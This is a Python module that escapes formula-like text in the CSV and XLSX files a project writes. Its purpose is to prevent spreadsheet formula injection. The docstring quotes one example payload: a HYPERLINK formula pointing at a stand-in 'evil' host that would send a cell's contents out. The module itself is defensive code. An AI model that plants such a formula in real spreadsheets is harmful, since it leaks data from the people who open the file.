"""The one guard against formula injection in what the project writes for spreadsheets.

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is taken for a formula by
Excel and LibreOffice (`=HYPERLINK("http://evil/?"&A1, "Bấm vào đây")` in an applicant's name would
run in the officer's spreadsheet). Every workbook and CSV file the project writes goes through this
module:

- CSV: `csv_value(value)` / `csv_row(values)`: such a text gets a leading apostrophe, which
  spreadsheets show as text; numbers (int, float, Decimal, and texts that are plain numbers such as
  "-5") stay as they are.
- XLSX: `protect_workbook(workbook)` (or `workbook_bytes(workbook)`, which also saves it) walks
  every cell: such a text is stored as a string cell (never a formula) with Excel's quote prefix, so
  it is shown, edited and read back (openpyxl, our own importers) as the same text. Number cells
  are untouched. No writer of the project writes formulas on purpose.
"""
from __future__ import annotations

import re
from io import BytesIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d.,]*)(e[+-]?\d+)?$", re.IGNORECASE)


def is_formula_like(value) -> bool:
    """A text a spreadsheet would evaluate (or could, once edited); plain numbers are not."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value)


def csv_value(value):
    return "'" + value if is_formula_like(value) else value


def csv_row(values) -> list:
    return [csv_value(value) for value in values]


def protect_workbook(workbook):
    """Make every formula-like text cell of an openpyxl workbook a plain, quote-prefixed string."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return workbook


def workbook_bytes(workbook) -> bytes:
    """The protected workbook as .xlsx bytes."""
    out = BytesIO()
    protect_workbook(workbook).save(out)
    return out.getvalue()
